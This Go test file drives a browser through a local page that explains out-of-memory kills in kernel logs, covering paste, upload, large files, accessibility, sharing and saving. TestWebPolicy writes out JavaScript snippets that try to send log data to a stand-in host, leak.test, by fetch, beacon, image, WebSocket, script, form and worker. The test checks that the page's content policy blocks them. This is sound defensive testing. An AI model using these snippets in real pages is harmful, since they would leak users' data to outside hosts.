// SPDX-License-Identifier: Apache-2.0

package browser

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// podLog is a kill in a container.
const podLog = top + "/testdata/captures/6.12/e_k8s_systemd/kmsg.raw"

// web opens the web page, as a host serves it.
func web(t *testing.T) *tab {
	t.Helper()
	b := webTab(t)
	b.show("http://localhost/")
	b.wait("the form", `!document.getElementById("form").hidden`)
	return b
}

// webTab opens an empty tab for the web page.
func webTab(t *testing.T) *tab {
	t.Helper()
	if *webDir == "" {
		t.Skip("NOT RUN: there is no web page: -web does not name the directory that `make web` built")
	}
	outside.took()
	return open(t, 1280, 800)
}

// wait waits until a condition is true.
func (b *tab) wait(what, condition string) {
	b.Helper()
	for range 600 {
		if eval[bool](b, "!!("+condition+")") {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	b.Fatalf("%s: did not come in half a minute; the page says %q", what, b.says())
}

// says is what the page says about reading.
func (b *tab) says() string {
	b.Helper()
	return eval[string](b, `[...document.querySelectorAll("#status, #error, #nothing")].filter(e => e.checkVisibility()).map(e => e.textContent.trim()).filter(Boolean).join("\n")`)
}

// read waits until a log is read, and returns what the page says.
func (b *tab) read() string {
	b.Helper()
	b.wait("the log", `document.getElementById("reading").hidden && (document.getElementById("status").textContent + document.getElementById("error").textContent).trim() && !/^Reading/.test(document.getElementById("status").textContent) &&
		(!/kills? found/.test(document.getElementById("status").textContent) || document.querySelector("#page article") || document.querySelectorAll("#list tbody tr").length > 1)`)
	return b.says()
}

// article is the text of the page of a kill, "" where none is shown.
func (b *tab) article() string {
	b.Helper()
	return eval[string](b, `document.querySelector("#page article")?.textContent || ""`)
}

// choose chooses files by the button.
func (b *tab) choose(names ...string) {
	b.Helper()
	for i := range names {
		abs, err := filepath.Abs(names[i])
		if err != nil {
			b.Fatal(err)
		}
		names[i] = abs
	}
	b.exec(`document.getElementById("file").dispatchEvent(new Event("click"))`)
	b.do(chromedp.SetUploadFiles(chromedp.ID("file"), names))
}

// paste pastes a text into the box.
func (b *tab) paste(content string) {
	b.Helper()
	b.exec(fmt.Sprintf(`
		document.getElementById("log").value = "";
		document.getElementById("log").focus();
		const data = new DataTransfer();
		data.setData("text/plain", %q);
		if (document.getElementById("log").dispatchEvent(new ClipboardEvent("paste", {clipboardData: data, bubbles: true, cancelable: true})))
			document.execCommand("insertText", false, data.getData("text/plain"));`, content))
}

// keys puts a text on the clipboard and pastes it by Ctrl+V. For most tests [tab.paste] will do.
func (b *tab) keys(content string) {
	b.Helper()
	b.exec(fmt.Sprintf(`
		const text = %q;
		document.addEventListener("copy", e => { e.clipboardData.setData("text/plain", text); e.preventDefault(); }, {once: true});
		document.getElementById("log").focus();`, content))
	for _, key := range [...]struct{ name, command string }{{"c", "copy"}, {"v", "paste"}} {
		b.do(send(input.DispatchKeyEvent, input.DispatchKeyEventParams{
			Type: input.DispatchKeyEventTypeRawKeyDown, Key: key.name, Code: "Key" + strings.ToUpper(key.name), Modifiers: 2, WindowsVirtualKeyCode: int64(strings.ToUpper(key.name)[0]), Commands: []string{key.command},
		}))
	}
}

// content is what a file holds.
func content(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// sent reports what left the browser, and what the page asked its own host for but itself.
func (b *tab) sent() {
	b.Helper()
	served, leaked := outside.took()
	served = slices.DeleteFunc(served, func(path string) bool { return path == "/" })
	if len(served)+len(leaked) > 0 {
		b.Errorf("the page asked for %q and sent %q", served, leaked)
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	requests := slices.DeleteFunc(slices.Clone(b.requests), func(url string) bool { return strings.HasPrefix(url, "blob:") || strings.HasPrefix(url, "data:") })
	if len(requests)+len(b.troubles)+len(b.dialogs) > 0 {
		b.Errorf("the page asked for %q, said %q and showed %q", requests, b.troubles, b.dialogs)
	}
}

// TestWebPaste: a log that is pasted is read at once; nothing leaves the browser.
func TestWebPaste(t *testing.T) {
	b := web(t)
	b.picture("web-empty")
	b.keys(content(t, podLog))
	if said := b.read(); !strings.Contains(said, "1 kill") {
		t.Errorf("the page says %q", said)
	}
	if article := b.article(); !strings.Contains(article, "killed app-main (pid 160)") {
		t.Errorf("the page shows %q", article)
	}
	b.picture("web-pasted")
	b.sent()
}

// TestWebFromFile: the page works as a file, from a disk.
func TestWebFromFile(t *testing.T) {
	b := webTab(t)
	b.show(filepath.Join(*webDir, "index.html"))
	b.paste(content(t, podLog))
	b.read()
	if article := b.article(); !strings.Contains(article, "killed app-main (pid 160)") {
		t.Errorf("the page shows %q", article)
	}
	b.sent()
}

// TestWebDrop: a file that is dropped anywhere is read.
func TestWebDrop(t *testing.T) {
	b := web(t)
	name, err := filepath.Abs(podLog)
	if err != nil {
		t.Fatal(err)
	}
	data := &input.DragData{Items: []*input.DragDataItem{}, Files: []string{name}, DragOperationsMask: 1}
	for _, kind := range [...]input.DispatchDragEventType{input.DispatchDragEventTypeDragEnter, input.DispatchDragEventTypeDragOver, input.DispatchDragEventTypeDrop} {
		b.do(send(input.DispatchDragEvent, input.DispatchDragEventParams{Type: kind, X: 600, Y: 300, Data: data}))
	}
	b.read()
	if article := b.article(); !strings.Contains(article, "killed app-main (pid 160)") {
		t.Errorf("the page shows %q", article)
	}
	b.sent()
}

// TestWebIsTheCommand: the page of a kill has the text that the command's file has.
func TestWebIsTheCommand(t *testing.T) {
	b := web(t)
	b.exec(`document.getElementById("zone").value = "UTC"`)
	for _, s := range shown {
		log := s.args[len(s.args)-1]
		if !s.axe {
			continue // these have all parts of pages
		}
		b.choose(filepath.Join(top, log))
		said := b.read()
		b.exec(`document.querySelector("#list:not([hidden]) tbody tr:last-child a")?.click()`)
		b.wait("the page of "+s.name+", "+said, `document.querySelector("#page article")`)
		got := b.article()
		c := open(t, 1280, 800)
		c.show(file(t, command(t, "explain", "-v", "-o", "html", log)))
		if want := c.text("article"); got != want {
			t.Errorf("%s: the page has %d bytes of text, the command's file %d: %s", s.name, len(got), len(want), differ(got, want))
		}
		b.exec(`document.getElementById("clear").click()`)
	}
	b.sent()
}

// text is the text of an element.
func (b *tab) text(selector string) string {
	b.Helper()
	return eval[string](b, fmt.Sprintf(`document.querySelector(%q)?.textContent || ""`, selector))
}

// differ is where two texts begin to differ.
func differ(a, b string) string {
	i := 0
	for i < min(len(a), len(b)) && a[i] == b[i] {
		i++
	}
	from := max(0, i-40)
	return fmt.Sprintf("%q and %q", a[from:min(len(a), i+60)], b[from:min(len(b), i+60)])
}

// TestWebPacked: packed files, and several at once, are read as what they are.
func TestWebPacked(t *testing.T) {
	dir := t.TempDir()
	plain := content(t, podLog)
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	if _, err := io.WriteString(z, plain); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{"kern.log.1.gz": packed.Bytes()}
	for ending, program := range map[string]string{".xz": "xz", ".bz2": "bzip2"} {
		cmd := exec.Command(program, "-c")
		cmd.Stdin = strings.NewReader(plain)
		out, err := cmd.Output()
		if err != nil {
			t.Logf("not tried: %s: %v", program, err)
			continue
		}
		files["kern.log"+ending] = out
	}
	b := web(t)
	for _, name := range keys(files) {
		if err := os.WriteFile(filepath.Join(dir, name), files[name], 0o644); err != nil {
			t.Fatal(err)
		}
		b.choose(filepath.Join(dir, name))
		said := b.read()
		if article := b.article(); !strings.Contains(article, "killed app-main (pid 160)") {
			t.Errorf("%s: the page says %q and shows %q", name, said, article)
		}
		b.exec(`document.getElementById("clear").click()`)
	}
	var all []string
	for _, name := range keys(files) {
		all = append(all, filepath.Join(dir, name))
	}
	b.choose(append(all, top+"/testdata/captures/7.2/a_global_anon/kmsg.raw")...)
	if said := b.read(); !strings.Contains(said, "2 kills") {
		t.Errorf("of a log and its copies, and another, the page says %q", said)
	}
	b.sent()
}

// bigLog writes a log of so many megabytes with a kill at its end.
func bigLog(t *testing.T, megabytes int) string {
	t.Helper()
	name := filepath.Join(t.TempDir(), "big.log")
	f, err := os.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var lines strings.Builder
	for i := 0; lines.Len() < 1<<20; i++ {
		fmt.Fprintf(&lines, "Nov 29 10:%02d:%02d node-1 kernel: [%d.000000] eth0: link is up, full duplex, flow control rx and tx, lane %d\n", i/60%60, i%60, i, i)
	}
	for range megabytes {
		if _, err := f.WriteString(lines.String()); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := f.WriteString("Nov 29 11:00:00 node-1 kernel: [9999.000000] Out of memory: Killed process 4242 (java) total-vm:900000kB, anon-rss:800000kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:1800kB oom_score_adj:0\n"); err != nil {
		t.Fatal(err)
	}
	return name
}

// TestWebLarge: while 200 MB are read the page lives: it says how far it is, and answers.
func TestWebLarge(t *testing.T) {
	log := bigLog(t, 200)
	b := web(t)
	b.exec(`
		window.seen = new Set(); window.turns = 0;
		const turn = () => {
			if (!document.getElementById("reading").hidden) { turns++; seen.add(document.getElementById("progress").value); }
			setTimeout(turn, 10);
		};
		turn();`)
	b.choose(log)
	if said := b.read(); !strings.Contains(said, "1 kill") {
		t.Errorf("the page says %q", said)
	}
	if article := b.article(); !strings.Contains(article, "java (pid 4242)") {
		t.Errorf("the page shows %q", article)
	}
	// Were the parser to run in the page, there would be a turn before and one after.
	turns, seen := eval[int](b, "turns"), eval[int](b, "seen.size")
	t.Logf("the page had %d turns while it read, and showed %d values of progress", turns, seen)
	if turns < 10 || seen < 4 {
		t.Errorf("the page had %d turns while it read, and showed %d values of progress", turns, seen)
	}
	// A reading can be cancelled, and then another log be read.
	b.choose(log)
	b.wait("the reading", `!document.getElementById("reading").hidden`)
	// What is being done is seen once, and heard by a screen reader.
	if !eval[bool](b, `(s => s.checkVisibility() && s.textContent === document.getElementById("progress-label").textContent && s.offsetWidth <= 1)(document.getElementById("status"))`) {
		t.Error("beside the progress, the status is not there for a screen reader alone")
	}
	b.picture("web-reading")
	b.do(chromedp.KeyEvent(kb.Escape))
	if said := b.read(); !strings.Contains(said, "Cancelled") {
		t.Errorf("the page says %q", said)
	}
	b.paste(content(t, podLog))
	if said := b.read(); !strings.Contains(said, "1 kill") {
		t.Errorf("after it was cancelled the page says %q", said)
	}
	b.sent()
}

// TestWebTrouble: what cannot be read gets a plain sentence.
func TestWebTrouble(t *testing.T) {
	dir := t.TempDir()
	write := func(name string, b []byte) string {
		name = filepath.Join(dir, name)
		if err := os.WriteFile(name, b, 0o644); err != nil {
			t.Fatal(err)
		}
		return name
	}
	binary, err := os.ReadFile(program)
	if err != nil {
		t.Fatal(err)
	}
	var cut bytes.Buffer
	z := gzip.NewWriter(&cut)
	if _, err := z.Write(binary[:1<<16]); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	large := write("disk.img", []byte("\x00\x01\x02"))
	if err := os.Truncate(large, 200<<20); err != nil {
		t.Fatal(err)
	}
	b := web(t)
	for _, c := range []struct {
		name string
		file string
		want string
	}{
		{"a program", write("program", binary), "not a log"},
		{"a log without a kill", top + "/testdata/logs/negative-prose.log", "No out-of-memory kill"},
		{"an empty file", write("empty.log", nil), "No out-of-memory kill"},
		{"200 MB of a disk", large, "not a log"},
		{"a damaged archive", write("cut.gz", cut.Bytes()[:cut.Len()/2]), "cannot read"},
	} {
		b.choose(c.file)
		said := b.read()
		if !strings.Contains(said, c.want) {
			t.Errorf("of %s the page says %q, not %q", c.name, said, c.want)
		}
		t.Logf("%s: %s", c.name, said)
		if b.article() != "" {
			t.Errorf("of %s the page shows %q", c.name, b.article())
		}
		b.picture("web-" + c.name)
		b.accessible()
		b.exec(`document.getElementById("clear").click()`)
	}
	b.do(chromedp.Click(chromedp.ID("read")))
	if said := b.says(); !strings.Contains(said, "nothing to read") {
		t.Errorf("of nothing the page says %q", said)
	}
	b.sent()
}

// TestWebLacks: a browser that cannot run the page gets a sentence that says so.
func TestWebLacks(t *testing.T) {
	for _, lack := range [...]string{"WebAssembly", "Worker", "DecompressionStream"} {
		b := webTab(t)
		b.do(send(page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: "delete globalThis." + lack}))
		b.show("http://localhost/")
		if said := b.says(); !strings.Contains(said, "Use a newer browser") || !strings.Contains(said, "oomtrail explain") {
			t.Errorf("without %s the page says %q", lack, said)
		}
		if eval[bool](b, `[...document.querySelectorAll("textarea, button, input")].some(e => e.checkVisibility())`) {
			t.Errorf("without %s the page has a form", lack)
		}
		b.accessible()
	}
	b := webTab(t)
	b.do(send(emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true}))
	b.show("http://localhost/")
	if text := run(b, chromedp.Text(chromedp.CSS("body"))); !strings.Contains(text, "JavaScript") || !strings.Contains(text, "oomtrail explain") {
		t.Errorf("without scripts the page says %q", text)
	}
}

// TestWebAccessible: everybody can use the page while it is empty, of many kills and of one, on
// every screen and on paper.
func TestWebAccessible(t *testing.T) {
	b := web(t)
	check := func(name string) {
		b.accessible()
		b.media("screen", "dark")
		b.picture("web-" + name + "-dark")
		b.media("screen", "light")
		for _, width := range [...]int64{1280, 360} {
			b.do(chromedp.EmulateViewport(width, 800))
			b.report(fmt.Sprint(name, ", in a window of ", width), b.findings("wide()"))
		}
		b.picture("web-" + name + "-narrow")
		b.do(chromedp.EmulateViewport(1280, 800))
	}
	check("empty")
	var logs []string
	for _, log := range witnessed(t) {
		logs = append(logs, top+"/"+log)
	}
	b.choose(logs...)
	if said := b.read(); !strings.Contains(said, "kills found") {
		t.Fatalf("the page says %q", said)
	}
	check("list")
	b.exec(`document.querySelector("#list a").click()`)
	b.wait("the page of a kill", `document.querySelector("#page article")`)
	check("kill")
	b.media("print", "light")
	if on := eval[string](b, `["form", "tools", "list", "page"].filter(id => document.getElementById(id).checkVisibility()).join(" ")`); on != "page" {
		t.Errorf("on paper are %s", on)
	}
	b.sent()
}

// TestWebKeyboard: without a mouse one reads a log, comes to a kill, and back.
func TestWebKeyboard(t *testing.T) {
	b := web(t)
	stops := strings.Join(b.walk(), " ")
	at := 0
	for _, want := range [...]string{"textarea#log", "input#file", "select#zone", "button#read", "button#example", "button#clear"} {
		next := strings.Index(stops[at:], want)
		if next < 0 {
			t.Fatalf("the focus stops at %s: where is %s?", stops, want)
		}
		at += next
	}
	b.exec(`document.getElementById("log").focus()`)
	b.do(send(input.InsertText, input.InsertTextParams{Text: content(t, top+"/testdata/captures/6.12/f_oomgroup/kmsg.raw")}), chromedp.KeyEvent(kb.Enter, chromedp.KeyModifiers(chromedp.ModifierCtrl)))
	if said := b.read(); !strings.Contains(said, "3 kills") {
		t.Fatalf("the page says %q", said)
	}
	press := func(until string) {
		t.Helper()
		for range 40 {
			if eval[bool](b, fmt.Sprintf("document.activeElement.matches(%q)", until)) {
				b.do(chromedp.KeyEvent(kb.Enter))
				return
			}
			b.do(chromedp.KeyEvent(kb.Tab))
		}
		t.Fatalf("the focus does not come to %s", until)
	}
	press("#list tbody a")
	b.wait("the page of a kill", `document.querySelector("#page article")`)
	press("#back")
	b.wait("the list", `!document.getElementById("list").hidden && !document.querySelector("#page article")`)
	b.sent()
}

// TestWebShare: a link holds a short log and the kill that is shown; who opens it sees the same.
func TestWebShare(t *testing.T) {
	b := web(t)
	b.paste(content(t, podLog))
	b.read()
	want := b.article()
	b.do(chromedp.Click(chromedp.ID("share")))
	b.wait("the link", `document.getElementById("link").value`)
	link := eval[string](b, `document.getElementById("link").value`)
	if text := b.text("#link-box"); !strings.Contains(text, "holds the whole log") {
		t.Errorf("the page says %q", text)
	}
	t.Logf("the link of a log of %d bytes has %d characters", len(content(t, podLog)), len(link))
	b.picture("web-share")
	c := webTab(t)
	c.show(link)
	c.read()
	if got := c.article(); got != want || got == "" {
		t.Errorf("who opens the link sees %d bytes of text, not %d", len(got), len(want))
	}
	c.sent()
	for _, bad := range [...]string{"#log=%25%25", "#log=AAAA", "#kill=99", "#log=" + strings.Repeat("A", 20000)} {
		d := webTab(t)
		d.show("http://localhost/" + bad)
		d.wait("the form", `!document.getElementById("form").hidden`)
		if strings.Contains(bad, "log=") {
			d.wait("what is wrong with "+bad[:9], `document.getElementById("error").textContent.trim()`)
		}
		if d.article() != "" {
			t.Errorf("%s shows %q", bad, d.article())
		}
		d.sent()
	}
}

// TestWebSave: the file that the page saves is the one that the command writes.
func TestWebSave(t *testing.T) {
	b := web(t)
	b.exec(`
		window.saved = null;
		const create = URL.createObjectURL;
		URL.createObjectURL = blob => { blob.text().then(text => { saved = text; }); return create(blob); };
		HTMLAnchorElement.prototype.click = function () {};`)
	b.choose(podLog)
	b.read()
	b.do(chromedp.Click(chromedp.ID("save")))
	b.wait("the file", "saved")
	c := open(t, 1280, 800)
	c.show(file(t, []byte(eval[string](b, "saved"))))
	if got, want := c.text("article"), b.article(); got != want {
		t.Errorf("the file: %s", differ(got, want))
	}
	c.accessible()
	c.quiet()
}

// TestWebHostile: no name in a log becomes more than a text in the web page, and were it to, the
// policy would not let it run or load.
func TestWebHostile(t *testing.T) {
	b := web(t)
	for _, payload := range payloads {
		b.paste(hostileLog(payload))
		said := b.read()
		if did := b.did(); did != "" {
			t.Errorf("%q: %s", payload, did)
		}
		if !strings.Contains(b.article(), "(pid 42)") {
			t.Errorf("%q: the page says %q and shows no kill", payload, said)
		}
		b.exec(`document.getElementById("status").textContent = ""`) // so that the next answer is seen
	}
	b.sent()
}

// TestWebPolicy: not even the page's own scripts can send a log away: the policy forbids it.
func TestWebPolicy(t *testing.T) {
	for name, script := range map[string]string{
		"fetch":    `fetch("http://leak.test/a?log")`,
		"a beacon": `new Promise((ok, no) => navigator.sendBeacon("http://leak.test/b", "log") ? setTimeout(no, 200, new Error("it was not sent")) : no(new Error("refused")))`,
		"an image": `new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(new Error("refused")); i.src = "http://leak.test/c?log"; })`,
		"a socket": `new Promise((ok, no) => { const s = new WebSocket("ws://leak.test/d"); s.onopen = ok; s.onerror = () => no(new Error("refused")); })`,
		"a script": `new Promise((ok, no) => { const s = document.createElement("script"); s.onload = ok; s.onerror = () => no(new Error("refused")); s.src = "http://leak.test/e?log"; document.body.append(s); })`,
		"a form":   `new Promise((ok, no) => { const f = document.createElement("form"); f.action = "http://leak.test/f"; f.method = "post"; document.body.append(f); f.submit(); setTimeout(no, 300, new Error("it stays")); })`,
		"a worker": `new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://leak.test/g?log').then(() => postMessage('sent'), () => postMessage('refused'))"]))); w.onmessage = e => e.data === "sent" ? ok() : no(new Error(e.data)); w.onerror = () => no(new Error("refused")); })`,
		"imports":  `new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts('http://leak.test/h'); postMessage('sent') } catch { postMessage('refused') }"]))); w.onmessage = e => e.data === "sent" ? ok() : no(new Error(e.data)); w.onerror = () => no(new Error("refused")); })`,
	} {
		b := web(t)
		if answer := eval[string](b, script+`.then(() => "sent", e => "refused: " + e.message)`); !strings.HasPrefix(answer, "refused") {
			t.Errorf("%s: %s", name, answer)
		}
		if did := b.did(); did != "" {
			t.Errorf("%s: %s", name, did)
		}
	}
}
